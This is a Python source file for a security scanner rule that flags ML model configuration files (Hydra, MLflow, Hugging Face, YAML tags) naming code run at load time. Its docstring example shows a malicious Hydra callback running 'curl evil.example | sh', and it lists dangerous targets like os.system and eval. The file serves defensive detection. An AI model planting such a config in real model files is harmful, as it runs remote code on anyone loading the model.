"""Configuration of models that names code."""

from __future__ import annotations

from labcoat.core.rule import rule
from labcoat.model_files.chat_templates import ESCAPES
from labcoat.model_files.hits import hits_of

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator

    from labcoat.core.models.model import Model
    from labcoat.core.rule import Hit, Options
    from labcoat.core.segment import Segment

KEYS = ("_target_", "loader_module", "auto_map", "custom_pipelines", "parent_library", "_diffusers_version", '"idx"')


@rule("medium", looks_at="model", keywords=(*KEYS, "python/", *ESCAPES), in_tests="low")
def code_in_model_config(model: Model, options: Options) -> Iterator[Hit]:
    """The configuration of a model names code that is run when the model is loaded.

    What it does
    ------------
    Reports, in YAML and JSON and inside of archives such as `.nemo`:

    - `_target_` of Hydra that runs programs, code or pickles: `os.system`, `subprocess.Popen`, `builtins.eval`,
      `torch.load` (high); inside of a model also a name of a library that is not known;
    - `loader_module` of MLflow's `MLmodel` that is not one of MLflow's own: MLflow imports it from the model's folder;
    - tags of YAML such as `!!python/object/apply:os.system`, which unsafe loaders run (high);
    - `auto_map` of Hugging Face that takes code from another repository (`org/name--module.Class`), and, with
      severity `low`, from its own, which runs with `trust_remote_code=True` only;
    - modules of unknown libraries that sentence-transformers, diffusers and PEFT import: in `modules.json`,
      `model_index.json` and `auto_mapping` of `adapter_config.json`.

    It is quiet about `_target_` of your own classes and of libraries in the configuration of a project.

    Why is this bad?
    ----------------
    Such a file looks like data and is reviewed like data. NeMo before 2.3.2 instantiated whatever a `.nemo` file
    named (CVE-2025-23304); MLflow imports the module before it looks at anything else.

    Example
    -------
        callbacks:
          - _target_: os.system
            command: curl evil.example | sh

    Use instead
    -----------
        callbacks:
          - _target_: lightning.pytorch.callbacks.ModelCheckpoint
            dirpath: checkpoints

    References
    ----------
    - https://nvd.nist.gov/vuln/detail/CVE-2025-23304
    - https://hydra.cc/docs/advanced/instantiate_objects/overview/
    - https://mlflow.org/docs/latest/ml/model/
    - https://huggingface.co/docs/transformers/custom_models
    """
    yield from hits_of(model, "config")


@code_in_model_config.register("json", "yaml")
def _in_settings(segment: Segment, options: Options) -> Iterator[Hit]:
    from labcoat.core.models.configs import judge_code
    from labcoat.model_files.settings_hits import hit_at, may_have

    if may_have(segment, *KEYS):
        for judged in judge_code(segment.settings()[0]):
            yield hit_at(segment, judged)
    if segment.language == "yaml":
        yield from _tags(segment)


def _tags(segment: Segment) -> Iterator[Hit]:
    from labcoat.core.models.yaml_tags import ADVICE, judge_tags
    from labcoat.core.rule import Hit

    for start, end, message, severity in judge_tags(segment.text):
        yield Hit(segment, start, end, message[:1].upper() + message[1:], ADVICE, severity)
